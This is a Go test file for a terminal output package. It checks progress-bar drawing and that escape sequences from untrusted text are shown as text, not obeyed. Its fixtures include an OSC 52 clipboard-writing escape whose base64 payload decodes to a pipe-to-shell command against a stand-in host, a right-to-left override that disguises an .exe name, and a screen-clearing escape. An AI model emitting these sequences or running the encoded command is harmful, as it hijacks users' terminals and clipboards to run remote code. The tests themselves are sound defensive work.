package iostreams

import (
	"fmt"
	"strings"
	"testing"
	"time"
)

func TestProgressDrawsOnlyOnATerminal(t *testing.T) {
	for _, tt := range []struct {
		tty, enabled, draws bool
	}{
		{tty: true, enabled: true, draws: true},
		{tty: true, enabled: false, draws: false},
		{tty: false, enabled: true, draws: false},
	} {
		ios, out, errOut := Test()
		ios.SetStderrTTY(tt.tty)
		p := ios.NewProgress("summarizing", tt.enabled)
		p.Start(10)
		p.Spent(12345, 0.5, 2)
		time.Sleep(150 * time.Millisecond) // past the bar's redraw throttle
		p.Done(1)
		p.Done(9)
		p.Finish()
		if drew := strings.Contains(errOut.String(), "summarizing"); drew != tt.draws {
			t.Errorf("tty=%v enabled=%v: drew=%v, want %v (stderr %q)", tt.tty, tt.enabled, drew, tt.draws, errOut.String())
		}
		if tt.draws && !strings.Contains(errOut.String(), "12.3k tokens · $0.5000 · 2 retries") {
			t.Errorf("the bar does not show tokens, cost and retries: %q", errOut.String())
		}
		if out.Len() != 0 {
			t.Errorf("progress went to stdout: %q", out.String())
		}
	}
}

// TestProgressTotalGrowsAsStepsAreFound: the bar's total is what was found
// so far, for runs that start work before they know how much there is.
func TestProgressTotalGrowsAsStepsAreFound(t *testing.T) {
	ios, _, errOut := Test()
	ios.SetStderrTTY(true)
	p := ios.NewProgress("summarizing", true)
	p.Found(4)
	p.Done(2)
	p.Found(6)
	time.Sleep(150 * time.Millisecond) // past the bar's redraw throttle
	p.Done(1)
	if !strings.Contains(errOut.String(), "3/10") {
		t.Errorf("after 4 and 6 found and 3 done, the bar does not show 3/10: %q", errOut.String())
	}
	p.Finish()
}

const clipboard = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07" // OSC 52 writes the clipboard

// TestTerminalsShowControlCharacters: what reaches a terminal shows escape
// sequences, carriage returns and bidirectional overrides as text; a file
// or a pipe gets the bytes as they are.
func TestTerminalsShowControlCharacters(t *testing.T) {
	const hostile = "subject " + clipboard + " \u202egnp.exe\rover"
	const shown = `subject \x1b]52;c;Y3VybCBldmlsLnNofHNo\x07 \u202egnp.exe` + "\nover"
	ios, out, errOut := Test()
	for _, tty := range []bool{false, true, false} {
		ios.SetStdoutTTY(tty)
		ios.SetStderrTTY(tty)
		out.Reset()
		errOut.Reset()
		fmt.Fprint(ios.Out, hostile)
		fmt.Fprint(ios.ErrOut, hostile)
		want := hostile
		if tty {
			want = shown
		}
		if out.String() != want || errOut.String() != want {
			t.Errorf("tty=%v: stdout %q, stderr %q, want %q", tty, out.String(), errOut.String(), want)
		}
	}
}

// TestProgressDrawsOnTheTerminalItself: the bar's own carriage returns and
// escapes reach the terminal, a description's do not.
func TestProgressDrawsOnTheTerminalItself(t *testing.T) {
	ios, _, errOut := Test()
	ios.SetStderrTTY(true)
	p := ios.NewProgress("summarizing "+clipboard, true)
	p.Start(2)
	p.Done(1)
	p.Finish()
	if !strings.Contains(errOut.String(), "\r") {
		t.Errorf("the bar's carriage returns did not pass: %q", errOut.String())
	}
	if strings.Contains(errOut.String(), "\x1b]") || !strings.Contains(errOut.String(), `summarizing \x1b]52;c;`) {
		t.Errorf("the description's escape reached the terminal: %q", errOut.String())
	}
}

// TestProgressCountsInItsUnit: the bar counts the steps in the unit given,
// against the total, with the rate, cost and retries beside it; a bar
// whose total grows (a dataset on standard input) shows the total found.
func TestProgressCountsInItsUnit(t *testing.T) {
	ios, _, errOut := Test()
	ios.SetStderrTTY(true)
	p := ios.NewProgressOf("evaluating", "results", true)
	p.throttle = 0
	p.Start(40)
	p.Spent(100, 0.25, 3)
	p.Done(3)
	line := errOut.String()
	for _, want := range []string{"evaluating", "3/40", "results/", "$0.2500", "3 retries"} {
		if !strings.Contains(line, want) {
			t.Errorf("progress %q lacks %q", line, want)
		}
	}
	if strings.Contains(line, "commits") {
		t.Errorf("progress %q counts commits", line)
	}

	ios, _, errOut = Test()
	ios.SetStderrTTY(true)
	p = ios.NewProgressOf("evaluating", "results", true)
	p.throttle = 0
	p.Found(2)
	p.Found(2)
	p.Done(3)
	if line := errOut.String(); !strings.Contains(line, "3/4") {
		t.Errorf("growing progress %q, want 3/4", line)
	}
}

// TestProgressShowsWhatABatchRunWaitsFor: a batch run's looks put the
// state of its batches beside the bar, after the tokens and cost, and a
// control character in it (a provider's id) is shown, not obeyed.
func TestProgressShowsWhatABatchRunWaitsFor(t *testing.T) {
	ios, _, errOut := Test()
	ios.SetStderrTTY(true)
	p := ios.NewProgressOf("summarizing", "commits", true)
	p.throttle = 0
	p.Start(120)
	p.Spent(5000, 0.01, 0)
	p.Note("batch openai:gpt-4o-mini batch_\x1b[2Jabc: in_progress, 40 of 120 done")
	p.Done(1)
	line := errOut.String()
	for _, want := range []string{"summarizing · 5.0k tokens · $0.0100 · batch openai:gpt-4o-mini batch_", "in_progress, 40 of 120 done", "1/120"} {
		if !strings.Contains(line, want) {
			t.Errorf("progress %q lacks %q", line, want)
		}
	}
	if strings.Contains(line, "\x1b[2J") {
		t.Errorf("progress %q passes an escape sequence through", line)
	}
}
